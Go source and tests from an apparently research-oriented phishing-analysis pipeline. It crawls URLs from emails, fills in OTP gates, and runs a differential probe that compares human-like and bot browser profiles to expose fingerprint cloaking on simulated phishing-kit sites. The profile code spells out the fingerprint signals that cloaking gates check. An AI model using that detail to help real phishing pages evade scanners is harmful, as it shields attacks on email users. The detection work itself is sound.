	"crawlerbox/internal/dataset"
	"crawlerbox/internal/phishkit"
)

func TestAppendQueryFragment(t *testing.T) {
	// Regression: the query must be inserted before any fragment, not
	// appended after it (servers never see the fragment part).
	for _, tc := range []struct {
		url, kv, want string
	}{
		{"https://h.example/p", "otp=1", "https://h.example/p?otp=1"},
		{"https://h.example/p?a=1", "otp=2", "https://h.example/p?a=1&otp=2"},
		{"https://h.example/p#frag", "otp=3", "https://h.example/p?otp=3#frag"},
		{"https://h.example/p?a=1#frag", "otp=4", "https://h.example/p?a=1&otp=4#frag"},
		{"https://h.example/p#", "otp=5", "https://h.example/p?otp=5#"},
	} {
		if got := appendQuery(tc.url, tc.kv); got != tc.want {
			t.Errorf("appendQuery(%q, %q) = %q, want %q", tc.url, tc.kv, got, tc.want)
		}
	}
}

// analysisSummary holds every analysis field that feeds the report
// aggregates. Turnstile token values and allocated client IPs legitimately
// interleave between concurrent analyses (they never reach any aggregate),
// so the determinism contract is stated over this projection.
type analysisSummary struct {
	Outcome       Outcome
	ErrorKind     ErrorKind
	SpearPhish    bool
	Brand         string
	HotLoadsRef   bool
	Cloaks        CloakCensus
	AnalyzedAt    time.Time
	URLs          int
	Visits        int
	LandingHost   string
	LandingReg    string
	LandingTLD    string
	DNS30DayTotal int
	DNSMaxDaily   int
}

func summarize(ma *MessageAnalysis) analysisSummary {
	s := analysisSummary{
		Outcome:     ma.Outcome,
		ErrorKind:   ma.ErrorKind,
		SpearPhish:  ma.SpearPhish,
		Brand:       ma.Brand,
		HotLoadsRef: ma.HotLoadsRef,
		Cloaks:      ma.Cloaks,
		AnalyzedAt:  ma.AnalyzedAt,
		URLs:        len(ma.Parse.URLs),
		Visits:      len(ma.Visits),
	}
	if ma.Landing != nil {
		s.LandingHost = ma.Landing.Host
		s.LandingReg = ma.Landing.Registrable
		s.LandingTLD = ma.Landing.TLD
		s.DNS30DayTotal = ma.Landing.DNS30DayTotal
		s.DNSMaxDaily = ma.Landing.DNSMaxDaily
	}
	return s
}

// corpusSummaries analyzes the first messages of a fresh seed-7 corpus with
// the given worker count. Each call builds its own world: analyses mutate
// world state (harvested credentials, issued challenge tokens), so the two
// runs under comparison must not share one.
func corpusSummaries(t *testing.T, workers int) []analysisSummary {
	t.Helper()
	c, err := dataset.Generate(dataset.Config{Seed: 7, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	pipe := New(c.Net, c.Registry)
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(context.Background(), b, c.BrandURLs[b]); err != nil {
			t.Fatal(err)
		}
	}
	msgs := c.Messages
	if len(msgs) > 120 {
		msgs = msgs[:120]
	}
	specs := make([]MessageSpec, len(msgs))
	for i, m := range msgs {
		specs[i] = MessageSpec{Raw: m.Raw, ID: int64(i + 1), At: m.Delivered.Add(2 * time.Hour)}
	}
	results := pipe.AnalyzeCorpus(context.Background(), specs, workers)
	out := make([]analysisSummary, len(results))
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("workers=%d message %d: %v", workers, i, r.Err)
		}
		if r.Index != i {
			t.Fatalf("workers=%d result %d carries index %d", workers, i, r.Index)
		}
		out[i] = summarize(r.Analysis)
	}
	return out
}

// TestAnalyzeCorpusDeterministicAcrossWorkers is the ISSUE's race test: the
// same corpus slice analyzed with workers=1 and workers=8 must produce
// identical aggregated results, and the whole test must pass under -race.
func TestAnalyzeCorpusDeterministicAcrossWorkers(t *testing.T) {
	serial := corpusSummaries(t, 1)
	parallel := corpusSummaries(t, 8)
	if len(serial) != len(parallel) {
		t.Fatalf("result counts differ: %d vs %d", len(serial), len(parallel))
	}
	var diffs int
	for i := range serial {
		if serial[i] != parallel[i] {
			diffs++
			if diffs <= 3 {
				t.Errorf("message %d diverges:\n  workers=1: %+v\n  workers=8: %+v",
					i, serial[i], parallel[i])
			}
		}
	}
	if diffs > 3 {
		t.Errorf("... and %d more divergent messages", diffs-3)
	}
}

func TestAnalyzeCorpusCancellation(t *testing.T) {
	env := newEnv(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	specs := []MessageSpec{
		{Raw: buildMsg(t, "Click https://taken-down.example/login now"), ID: 1},
		{Raw: buildMsg(t, "Click https://taken-down.example/login again"), ID: 2},
	}
	results := env.pipe.AnalyzeCorpus(ctx, specs, 2)
	if len(results) != len(specs) {
		t.Fatalf("results = %d, want %d", len(results), len(specs))
	}
	for i, r := range results {
		if !errors.Is(r.Err, context.Canceled) {
			t.Errorf("message %d: err = %v, want context.Canceled", i, r.Err)
		}
		if r.Analysis != nil {
			t.Errorf("message %d: analysis produced despite cancellation", i)
		}
	}
}

// recordStage is a test stage that logs its execution.
type recordStage struct {
	name string
	log  *[]string
}

func (s recordStage) Name() string { return s.name }

func (s recordStage) Run(context.Context, *Execution) error {
	*s.log = append(*s.log, s.name)
	return nil
}

func TestStageChainHaltAndCustomStages(t *testing.T) {
	env := newEnv(t)
	var log []string
	env.pipe.Stages = []Stage{ParseStage{}, recordStage{"custom", &log}}

	// A message with nothing to crawl halts at ParseStage: the custom stage
	// must not run and the outcome is already decided.
	ma, err := env.pipe.AnalyzeMessage(buildMsg(t, "Plain text, nothing to fetch."))
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeNoResource {
		t.Errorf("outcome = %v, want no-web-resource", ma.Outcome)
	}
	if len(log) != 0 {
		t.Errorf("custom stage ran after a halting parse: %v", log)
	}

	// A message with a URL flows through the full custom chain.
	if _, err := env.pipe.AnalyzeMessage(buildMsg(t, "Click https://taken-down.example/login now")); err != nil {
		t.Fatal(err)
	}
	if len(log) != 1 || log[0] != "custom" {
		t.Errorf("custom stage log = %v, want [custom]", log)
	}
}

func TestDiffProbeStageInsertion(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:            "fpcloak-staged.com",
		Brand:           phishkit.BrandAcmeTravelTech,
		FingerprintGate: true,
	})
	env.pipe.Stages = []Stage{
		ParseStage{}, CrawlStage{}, InteractStage{}, DiffProbeStage{},
		ClassifyStage{}, CensusStage{}, EnrichStage{},
	}
	ma, err := env.pipe.AnalyzeMessage(buildMsg(t, "Verify your account: "+site.LandingURL))
	if err != nil {
		t.Fatal(err)
	}
	if len(ma.Probes) != 1 {
		t.Fatalf("probes = %d, want 1", len(ma.Probes))
	}
	if !ma.Probes[0].Cloaked {
		t.Error("fingerprint-gated site must be flagged by the staged probe")
	}
}
