package crawlerbox

import (
	"context"
	"errors"
	neturl "net/url"
	"strings"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/webnet"
)

// ErrHalt is returned by a Stage to signal that the analysis is complete and
// the remaining stages must be skipped (for example: a message whose only
// payload is a malware download has nothing to crawl, classify, or enrich).
// It is a control-flow sentinel, not a failure — Pipeline.Analyze treats it
// as a clean stop.
var ErrHalt = errors.New("crawlerbox: analysis complete")

// Stage is one step of the CrawlerBox pipeline (the paper's Fig. 1 boxes:
// ingest → parse → crawl → log → enrich → classify). Stages consume and
// produce the shared *MessageAnalysis carried by the Execution; the chain
// can be reordered, replaced, or instrumented via Pipeline.Stages.
//
// A Stage must be safe for concurrent use: one Stage value is shared by
// every worker of AnalyzeCorpus, so all per-message state belongs on the
// Execution, never on the Stage.
type Stage interface {
	// Name identifies the stage in logs and instrumentation.
	Name() string
	// Run advances the analysis. Returning ErrHalt stops the chain cleanly;
	// any other error aborts the analysis and surfaces to the caller.
	Run(ctx context.Context, ex *Execution) error
}

// Execution is the per-message analysis context threaded through the stage
// chain. It owns everything that must not be shared between concurrent
// analyses: the forked virtual clock, the deterministic seed stream, and
// the MessageAnalysis under construction.
type Execution struct {
	// Pipeline is the owning pipeline (configuration, references, network).
	Pipeline *Pipeline
	// Raw is the RFC 5322 message being analyzed.
	Raw []byte
	// Analysis accumulates the stages' output.
	Analysis *MessageAnalysis
	// Clock is this analysis's private fork of the virtual clock. Browsers
	// created through NewBrowser advance it; the shared world clock never
	// moves during an analysis, so concurrent analyses cannot observe each
	// other's latency or event-loop time.
	Clock *webnet.Clock
	// Trace is this analysis's span buffer (nil when tracing is off — all
	// span operations are no-ops). Browsers created through NewBrowser
	// inherit it so visit and request spans land in the message's timeline.
	Trace *obs.Trace
	// Session is this analysis's resilience session (nil when the fault and
	// recovery layer is disarmed): fault schedule, retry budget, and circuit
	// breakers, all private to the message so outcomes stay independent of
	// what other analyses are running.
	Session *resilience.Session

	seedBase int64
	seedSeq  int64
	// urlVisits is the count of Visits records produced by crawling parsed
	// URLs (as opposed to loading HTML attachments); InteractStage only
	// follows up on those, matching the original monolithic behavior.
	urlVisits int
}

// nextSeed returns the next seed in this execution's deterministic stream.
// Seeds depend only on (message ID, call ordinal), never on what other
// analyses are running — the fix for the shared p.seed++ counter that made
// results depend on analysis order and raced under concurrency.
func (ex *Execution) nextSeed() int64 {
	ex.seedSeq++
	return mixSeed(ex.seedBase, ex.seedSeq)
}

// NewBrowser builds a crawler instance bound to this execution: seeded from
// the per-message stream and ticking the analysis-local clock.
func (ex *Execution) NewBrowser() *browser.Browser {
	return ex.attach(ex.Pipeline.NewBrowser(ex.nextSeed()))
}

// attach rebinds a browser's clock to the execution's fork and threads the
// execution's trace buffer and resilience session into it.
func (ex *Execution) attach(br *browser.Browser) *browser.Browser {
	if ex.Clock != nil {
		br.Clock = ex.Clock
	}
	br.Trace = ex.Trace
	br.Resilience = ex.Session
	return br
}

// now reads the execution's virtual time.
func (ex *Execution) now() time.Time {
	if ex.Clock != nil {
		return ex.Clock.Now()
	}
	return ex.Pipeline.Net.Clock.Now()
}

// mixSeed is a splitmix64-style finalizer over (base, seq): well-spread
// seeds from small consecutive inputs, with no shared state.
func mixSeed(base, seq int64) int64 {
	z := uint64(base)*0x9e3779b97f4a7c15 + uint64(seq)*0xd1342543de82ef95 + 0x2545f4914f6cdd1d
	z ^= z >> 30
	z *= 0xbf58476d1ce4e5b9
	z ^= z >> 27
	z *= 0x94d049bb133111eb
	z ^= z >> 31
	return int64(z)
}

// DefaultStages returns the standard chain in the paper's order. Callers
// may copy and splice it (e.g. insert DiffProbeStage before ClassifyStage)
// and assign the result to Pipeline.Stages.
func DefaultStages() []Stage {
	return []Stage{
		ParseStage{},
		CrawlStage{},
		InteractStage{},
		ClassifyStage{},
		CensusStage{},
		EnrichStage{},
	}
}

// ParseStage recursively parses the MIME tree and extracts the crawlable
// surface: URLs (text, HTML, QR codes, PDFs), HTML attachments, archive
// payloads, and OTP codes. Messages with nothing to crawl halt the chain
// with their outcome already decided.
type ParseStage struct{}

// Name implements Stage.
func (ParseStage) Name() string { return "parse" }

// Run implements Stage.
func (ParseStage) Run(_ context.Context, ex *Execution) error {
	parse, err := ex.Pipeline.ParseMessage(ex.Raw)
	if err != nil {
		return err
	}
	ma := ex.Analysis
	ma.Parse = parse
	if parse.ZIPWithHTA {
		ma.Outcome = OutcomeDownload
		return ErrHalt
	}
	if len(parse.URLs) == 0 && len(parse.HTMLAttachments) == 0 {
		ma.Outcome = OutcomeNoResource
		return ErrHalt
	}
	return nil
}

// CrawlStage visits every extracted URL with a fresh browser and loads HTML
// attachments locally (the Section V-B vector), recording one VisitRecord
// per resource.
type CrawlStage struct{}

// Name implements Stage.
func (CrawlStage) Name() string { return "crawl" }

// Run implements Stage.
func (CrawlStage) Run(ctx context.Context, ex *Execution) error {
	ma := ex.Analysis
	for _, u := range ma.Parse.URLs {
		res, err := ex.NewBrowser().Visit(ctx, u.URL)
		ma.Visits = append(ma.Visits, VisitRecord{URL: u.URL, Result: res, Err: err})
	}
	ex.urlVisits = len(ma.Visits)
	for _, att := range ma.Parse.HTMLAttachments {
		res, err := ex.NewBrowser().LoadHTML(ctx, att.Content, att.Filename)
		ma.Visits = append(ma.Visits, VisitRecord{URL: "file:///" + att.Filename, Result: res, Err: err})
	}
	return nil
}

// InteractStage performs the pipeline's automated interaction steps on each
// crawled URL: solving math challenges, entering OTP codes recovered from
// the message, and token-strip probing for tokenized-URL cloaking.
type InteractStage struct{}

// Name implements Stage.
func (InteractStage) Name() string { return "interact" }

// Run implements Stage.
func (InteractStage) Run(ctx context.Context, ex *Execution) error {
	// Snapshot the crawl-produced records: interaction appends follow-up
	// visits, which must not themselves be interacted with.
	for i := 0; i < ex.urlVisits; i++ {
		v := ex.Analysis.Visits[i]
		if v.Err != nil || v.Result == nil || v.Result.DOM == nil {
			continue
		}
		ex.interact(ctx, v)
	}
	return nil
}

// interact runs the gate-specific follow-ups for one primary visit.
func (ex *Execution) interact(ctx context.Context, v VisitRecord) {
	ma := ex.Analysis
	res := v.Result
	// Math challenge: solve the trivial equation with custom code.
	if target, ok := solveMathChallenge(res); ok {
		ma.Cloaks.MathChallenge = true
		next := resolveRef(res.FinalURL, target)
		res2, err2 := ex.NewBrowser().Visit(ctx, next)
		ma.Visits = append(ma.Visits, VisitRecord{URL: next, Result: res2, Err: err2})
	}
	// OTP prompt: try access codes recovered from the message text.
	if pageHasOTPPrompt(res.DOM) {
		ma.Cloaks.OTPPrompt = true
		for _, code := range ma.Parse.OTPCodes {
			next := appendQuery(res.FinalURL, "otp="+code)
			res2, err2 := ex.NewBrowser().Visit(ctx, next)
			ma.Visits = append(ma.Visits, VisitRecord{URL: next, Result: res2, Err: err2})
			if res2 != nil && res2.DOM != nil && htmlx.HasPasswordInput(res2.DOM) {
				break
			}
		}
	}
	// Token-strip probe: visit the bare URL to expose tokenized cloaking.
	if u, perr := neturl.Parse(v.URL); perr == nil && (u.RawQuery != "" || u.Fragment != "") {
		bare := *u
		bare.RawQuery = ""
		bare.Fragment = ""
		res3, err3 := ex.NewBrowser().Visit(ctx, bare.String())
		if err3 == nil && res3 != nil && res3.DOM != nil {
			if htmlx.HasPasswordInput(res.DOM) && !htmlx.HasPasswordInput(res3.DOM) {
				ma.Cloaks.TokenizedURL = true
			}
		}
	}
}

// ClassifyStage derives the message outcome from the crawl results and
// matches active phishing pages against the protected brands' references.
type ClassifyStage struct{}

// Name implements Stage.
func (ClassifyStage) Name() string { return "classify" }

// Run implements Stage.
func (ClassifyStage) Run(_ context.Context, ex *Execution) error {
	ex.Pipeline.classify(ex.Analysis)
	return nil
}

// CensusStage inspects loaded scripts and recorded traffic for the
// Section V-C evasion techniques.
type CensusStage struct{}

// Name implements Stage.
func (CensusStage) Name() string { return "census" }

// Run implements Stage.
func (CensusStage) Run(_ context.Context, ex *Execution) error {
	ex.Pipeline.census(ex.Analysis)
	return nil
}

// EnrichStage joins the landing domain against WHOIS, the certificate
// store, and the passive-DNS background ledger.
type EnrichStage struct{}

// Name implements Stage.
func (EnrichStage) Name() string { return "enrich" }

// Run implements Stage.
func (EnrichStage) Run(_ context.Context, ex *Execution) error {
	ex.Pipeline.enrich(ex.Analysis, ex.now())
	return nil
}

// DiffProbeStage is the optional differential-cloaking probe run as a
// pipeline stage: every crawled URL is re-visited with a human profile and
// an overtly automated one, and material divergence is recorded on the
// analysis. Insert it anywhere after CrawlStage:
//
//	pipe.Stages = append([]crawlerbox.Stage{
//	    crawlerbox.ParseStage{}, crawlerbox.CrawlStage{},
//	    crawlerbox.InteractStage{}, crawlerbox.DiffProbeStage{},
//	}, crawlerbox.ClassifyStage{}, crawlerbox.CensusStage{}, crawlerbox.EnrichStage{})
type DiffProbeStage struct{}

// Name implements Stage.
func (DiffProbeStage) Name() string { return "diffprobe" }

// Run implements Stage.
func (DiffProbeStage) Run(ctx context.Context, ex *Execution) error {
	ma := ex.Analysis
	for i := 0; i < ex.urlVisits; i++ {
		v := ma.Visits[i]
		if strings.HasPrefix(v.URL, "file:///") {
			continue
		}
		probe, err := ex.Pipeline.runDifferentialProbe(ctx, ex, v.URL)
		if err != nil {
			continue
		}
		ma.Probes = append(ma.Probes, probe)
	}
	return nil
}
