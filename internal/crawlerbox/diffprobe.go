package crawlerbox

import (
	"context"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/webnet"
)

// DifferentialProbe implements the defense the paper's discussion proposes:
// detect URLs whose behavior changes with the visitor's fingerprint by
// crawling the same URL twice — once with a human-indistinguishable profile
// and once with an overtly automated one — and diffing the outcomes. A page
// that shows a credential form to the "human" but a decoy to the "bot" is
// fingerprint-cloaked by construction, regardless of which specific check
// it runs.
type DifferentialProbe struct {
	// HumanVisit / BotVisit are the two observations.
	HumanVisit *browser.Result
	BotVisit   *browser.Result
	// Cloaked is true when the two observations diverge materially.
	Cloaked bool
	// Evidence lists the divergences found.
	Evidence []string
}

// RunDifferentialProbe crawls url with a NotABot profile and a headless
// automation profile and compares what each was served. For probing inside
// a corpus analysis, insert DiffProbeStage into Pipeline.Stages instead.
func (p *Pipeline) RunDifferentialProbe(url string) (*DifferentialProbe, error) {
	//cblint:ignore ctxflow RunDifferentialProbe is the documented no-cancellation wrapper around the stage-aware core
	return p.runDifferentialProbe(context.Background(), nil, url)
}

// runDifferentialProbe is the stage-aware core: with a non-nil Execution
// the two browsers draw seeds from the per-message stream and tick the
// analysis-local clock; without one they draw from the pipeline counter.
func (p *Pipeline) runDifferentialProbe(ctx context.Context, ex *Execution, url string) (*DifferentialProbe, error) {
	nextSeed := p.nextSeed
	if ex != nil {
		nextSeed = ex.nextSeed
	}
	human := p.NewBrowser(nextSeed())

	botProfile := browser.HumanChrome()
	botProfile.Name = "probe-bot"
	botProfile.WebdriverFlag = true
	botProfile.Headless = true
	botProfile.GPURenderer = "Google SwiftShader"
	botProfile.PluginCount = 0
	botProfile.PluginNames = nil
	botProfile.ChromeObject = false
	botProfile.MouseMovement = false
	botProfile.TrustedEvents = false
	// Datacenter scanners run UTC with a bare language set — exactly the
	// environment-coherence signals the fingerprint gates key on.
	botProfile.Timezone = "UTC"
	botProfile.TimezoneOffset = 0
	botProfile.Language = "en"
	botProfile.Languages = []string{"en"}
	botSeed := nextSeed()
	bot := browser.New(p.Net, botProfile, p.Net.SeededIP(webnet.IPDatacenter, botSeed), botSeed)
	if ex != nil {
		ex.attach(human)
		ex.attach(bot)
	}

	humanRes, humanErr := human.Visit(ctx, url)
	botRes, botErr := bot.Visit(ctx, url)

	probe := &DifferentialProbe{HumanVisit: humanRes, BotVisit: botRes}
	switch {
	case humanErr != nil && botErr != nil:
		return probe, humanErr
	case humanErr == nil && botErr != nil:
		probe.Cloaked = true
		probe.Evidence = append(probe.Evidence, "bot visit failed where human visit succeeded")
		return probe, nil
	case humanErr != nil:
		return probe, humanErr
	}

	humanForm := hasPhishForm(humanRes)
	botForm := hasPhishForm(botRes)
	if humanForm != botForm {
		probe.Cloaked = true
		probe.Evidence = append(probe.Evidence, "credential form shown only to the human profile")
	}
	if humanRes.FinalURL != botRes.FinalURL {
		probe.Cloaked = true
		probe.Evidence = append(probe.Evidence, "navigation diverged: human="+
			humanRes.FinalURL+" bot="+botRes.FinalURL)
	}
	if humanRes.Screenshot != nil && botRes.Screenshot != nil {
		ok, dp, dd := p.Matcher.Match(imaging.Sign(humanRes.Screenshot), imaging.Sign(botRes.Screenshot))
		if !ok {
			probe.Cloaked = true
			probe.Evidence = append(probe.Evidence, "rendered pages differ visually")
			_ = dp
			_ = dd
		}
	}
	if textOf(humanRes.DOM) != textOf(botRes.DOM) && !probe.Cloaked {
		probe.Cloaked = true
		probe.Evidence = append(probe.Evidence, "page text differs between profiles")
	}
	return probe, nil
}

func textOf(doc *htmlx.Node) string {
	if doc == nil {
		return ""
	}
	return doc.InnerText()
}
