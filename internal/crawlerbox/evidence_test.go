package crawlerbox

import (
	"bytes"
	"errors"
	"path/filepath"
	"reflect"
	"testing"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/imaging"
)

func sampleVisits() []VisitRecord {
	shot := imaging.MustNew(8, 6, imaging.RGB{R: 10, G: 20, B: 30})
	shot.Set(3, 2, imaging.RGB{R: 200, G: 100, B: 50})
	return []VisitRecord{
		{
			URL: "https://phish.example/login",
			Result: &browser.Result{
				RequestedURL: "https://phish.example/login",
				FinalURL:     "https://landing.example/portal",
				Status:       200,
				HTML:         "<html><title>Sign in</title></html>",
				Screenshot:   shot,
				Console:      []string{"warn: mixed content"},
				Scripts:      []string{"fp.js"},
				ScriptErrors: []string{"ReferenceError: chrome"},
				Navigations:  []string{"https://phish.example/login", "https://landing.example/portal"},
				Requests: []browser.RequestRecord{
					{URL: "https://landing.example/portal", Method: "GET", Initiator: "document", Status: 200},
					{URL: "https://cdn.example/fp.js", Method: "GET", Initiator: "script", Referer: "https://landing.example/portal", Status: 404, Err: "not found"},
				},
				DebuggerHits: 2,
				Degraded:     true,
			},
		},
		{URL: "https://dead.example/", Err: errors.New("webnet: NXDOMAIN")},
		{URL: "https://empty.example/", Result: &browser.Result{Status: 204}},
	}
}

func TestEvidenceRoundTrip(t *testing.T) {
	visits := sampleVisits()
	got, err := DecodeEvidence(EncodeEvidence(visits))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(visits) {
		t.Fatalf("decoded %d visits, want %d", len(got), len(visits))
	}
	for i, ev := range got {
		v := visits[i]
		if ev.URL != v.URL {
			t.Errorf("visit %d: URL %q want %q", i, ev.URL, v.URL)
		}
		wantErr := ""
		if v.Err != nil {
			wantErr = v.Err.Error()
		}
		if ev.Err != wantErr {
			t.Errorf("visit %d: Err %q want %q", i, ev.Err, wantErr)
		}
		if ev.Missing != (v.Result == nil) {
			t.Errorf("visit %d: Missing=%v", i, ev.Missing)
		}
		if v.Result == nil {
			continue
		}
		r := v.Result
		if ev.RequestedURL != r.RequestedURL || ev.FinalURL != r.FinalURL ||
			ev.Status != r.Status || ev.HTML != r.HTML ||
			ev.DebuggerHits != r.DebuggerHits || ev.Degraded != r.Degraded {
			t.Errorf("visit %d: scalar fields differ: %+v", i, ev)
		}
		if !reflect.DeepEqual(ev.Console, r.Console) || !reflect.DeepEqual(ev.Scripts, r.Scripts) ||
			!reflect.DeepEqual(ev.ScriptErrors, r.ScriptErrors) || !reflect.DeepEqual(ev.Navigations, r.Navigations) {
			t.Errorf("visit %d: string slices differ", i)
		}
		if len(ev.Requests) != len(r.Requests) {
			t.Fatalf("visit %d: %d requests, want %d", i, len(ev.Requests), len(r.Requests))
		}
		for j := range r.Requests {
			if ev.Requests[j] != r.Requests[j] {
				t.Errorf("visit %d request %d: %+v want %+v", i, j, ev.Requests[j], r.Requests[j])
			}
		}
		if r.Screenshot == nil {
			if ev.Screenshot != nil {
				t.Errorf("visit %d: unexpected screenshot bytes", i)
			}
			continue
		}
		img, err := imaging.DecodeCBI(ev.Screenshot)
		if err != nil {
			t.Fatalf("visit %d: screenshot decode: %v", i, err)
		}
		if !img.Equal(r.Screenshot) {
			t.Errorf("visit %d: screenshot pixels differ", i)
		}
	}
}

func TestDecodeEvidenceRejectsGarbage(t *testing.T) {
	for _, payload := range [][]byte{nil, {0x7F}, {evidenceVersion}, {evidenceVersion, 0x05, 0x01}} {
		if _, err := DecodeEvidence(payload); err == nil {
			t.Errorf("DecodeEvidence(%v) accepted garbage", payload)
		}
	}
	// A valid empty evidence record decodes to zero visits.
	got, err := DecodeEvidence(EncodeEvidence(nil))
	if err != nil || len(got) != 0 {
		t.Fatalf("empty evidence: %v, %d visits", err, len(got))
	}
}

func TestSpillEvidence(t *testing.T) {
	store, err := evstore.Create(filepath.Join(t.TempDir(), "ev.bin"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()

	ma := &MessageAnalysis{Visits: sampleVisits(), Outcome: OutcomeActivePhish}
	wantPayload := EncodeEvidence(ma.Visits)
	if err := SpillEvidence(store, ma); err != nil {
		t.Fatal(err)
	}
	if ma.Visits != nil {
		t.Fatal("spill left Visits resident")
	}
	if !ma.Evidence.Valid() {
		t.Fatalf("spill produced invalid handle %+v", ma.Evidence)
	}
	kind, payload, err := store.At(ma.Evidence)
	if err != nil {
		t.Fatal(err)
	}
	if kind != evstore.KindAnalysis || !bytes.Equal(payload, wantPayload) {
		t.Fatalf("stored record kind=%d len=%d, want analysis/%d", kind, len(payload), len(wantPayload))
	}
	loaded, err := LoadEvidence(store, ma.Evidence)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 3 || loaded[0].FinalURL != "https://landing.example/portal" {
		t.Fatalf("loaded evidence mismatch: %+v", loaded)
	}

	// Spilling an analysis without visits is a no-op.
	empty := &MessageAnalysis{}
	if err := SpillEvidence(store, empty); err != nil {
		t.Fatal(err)
	}
	if empty.Evidence.Valid() {
		t.Fatal("no-visit spill produced a handle")
	}
	// So is spilling to a nil store.
	withVisits := &MessageAnalysis{Visits: sampleVisits()}
	if err := SpillEvidence(nil, withVisits); err != nil {
		t.Fatal(err)
	}
	if withVisits.Visits == nil {
		t.Fatal("nil-store spill dropped Visits")
	}
}
