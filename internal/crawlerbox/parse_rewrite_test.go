package crawlerbox

import (
	"testing"

	"crawlerbox/internal/urlx"
)

// TestParseDecodesRewrittenURLs pins the parse-time canonicalization: a
// gateway-wrapped link extracts as its canonical URL (marked Rewritten),
// and a wrapped plus an unwrapped report of the same landing URL collapse
// into one deduped entry.
func TestParseDecodesRewrittenURLs(t *testing.T) {
	env := newEnv(t)
	target := "https://secure-login.example/portal?t=u001x0042"
	wrapped := urlx.WrapSafeLinks("eur01", target)

	raw := buildMsg(t, "Review the notice: "+wrapped+"\nOr use the mirror: "+target)
	res, err := env.pipe.ParseMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.URLs) != 1 {
		t.Fatalf("URLs = %v, want the wrapped and plain link deduped to one", res.URLs)
	}
	u := res.URLs[0]
	if u.URL != target {
		t.Errorf("URL = %q, want canonical %q", u.URL, target)
	}
	if !u.Rewritten {
		t.Error("first (wrapped) extraction not marked Rewritten")
	}
	if res.RewrittenURLs != 1 {
		t.Errorf("RewrittenURLs = %d, want 1", res.RewrittenURLs)
	}

	// Double wrapping decodes all the way down.
	double := urlx.WrapSafeLinks("nam02", urlx.WrapURLDefense(target))
	res, err = env.pipe.ParseMessage(buildMsg(t, "Open: "+double))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.URLs) != 1 || res.URLs[0].URL != target || !res.URLs[0].Rewritten {
		t.Errorf("double-wrapped parse = %+v, want canonical %q marked Rewritten", res.URLs, target)
	}

	// A malformed wrapper passes through untouched and unmarked.
	broken := "https://eur01.safelinks.protection.outlook.example/?url=https%ZZbroken&data=x"
	res, err = env.pipe.ParseMessage(buildMsg(t, "Open: "+broken))
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range res.URLs {
		if u.Rewritten {
			t.Errorf("malformed wrapper %q marked Rewritten", u.URL)
		}
	}
	if res.RewrittenURLs != 0 {
		t.Errorf("RewrittenURLs = %d for malformed wrapper, want 0", res.RewrittenURLs)
	}
}
