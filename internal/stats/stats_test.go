package stats

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func almostEqual(a, b, tol float64) bool {
	return math.Abs(a-b) <= tol
}

func TestMean(t *testing.T) {
	tests := []struct {
		name string
		xs   []float64
		want float64
	}{
		{"empty", nil, 0},
		{"single", []float64{42}, 42},
		{"pair", []float64{1, 3}, 2},
		{"negative", []float64{-2, 2, -4, 4}, 0},
		{"fractional", []float64{1, 2}, 1.5},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Mean(tt.xs); !almostEqual(got, tt.want, 1e-12) {
				t.Errorf("Mean(%v) = %v, want %v", tt.xs, got, tt.want)
			}
		})
	}
}

func TestVarianceAndStdDev(t *testing.T) {
	xs := []float64{2, 4, 4, 4, 5, 5, 7, 9}
	// Sample variance with n-1 denominator: sum of squares = 32, n-1 = 7.
	wantVar := 32.0 / 7.0
	if got := Variance(xs); !almostEqual(got, wantVar, 1e-12) {
		t.Errorf("Variance = %v, want %v", got, wantVar)
	}
	if got := StdDev(xs); !almostEqual(got, math.Sqrt(wantVar), 1e-12) {
		t.Errorf("StdDev = %v, want %v", got, math.Sqrt(wantVar))
	}
	if got := Variance([]float64{5}); got != 0 {
		t.Errorf("Variance of singleton = %v, want 0", got)
	}
}

func TestMedian(t *testing.T) {
	tests := []struct {
		name    string
		xs      []float64
		want    float64
		wantErr bool
	}{
		{"empty", nil, 0, true},
		{"odd", []float64{3, 1, 2}, 2, false},
		{"even", []float64{4, 1, 3, 2}, 2.5, false},
		{"repeated", []float64{1, 1, 1, 9}, 1, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Median(tt.xs)
			if (err != nil) != tt.wantErr {
				t.Fatalf("Median(%v) error = %v, wantErr = %v", tt.xs, err, tt.wantErr)
			}
			if err == nil && !almostEqual(got, tt.want, 1e-12) {
				t.Errorf("Median(%v) = %v, want %v", tt.xs, got, tt.want)
			}
		})
	}
}

func TestMedianDoesNotMutate(t *testing.T) {
	xs := []float64{3, 1, 2}
	if _, err := Median(xs); err != nil {
		t.Fatal(err)
	}
	if xs[0] != 3 || xs[1] != 1 || xs[2] != 2 {
		t.Errorf("Median mutated its input: %v", xs)
	}
}

func TestPercentile(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	tests := []struct {
		p    float64
		want float64
	}{
		{0, 1}, {25, 2}, {50, 3}, {75, 4}, {100, 5}, {10, 1.4},
	}
	for _, tt := range tests {
		got, err := Percentile(xs, tt.p)
		if err != nil {
			t.Fatalf("Percentile(%v): %v", tt.p, err)
		}
		if !almostEqual(got, tt.want, 1e-12) {
			t.Errorf("Percentile(%v) = %v, want %v", tt.p, got, tt.want)
		}
	}
	if _, err := Percentile(xs, 101); err == nil {
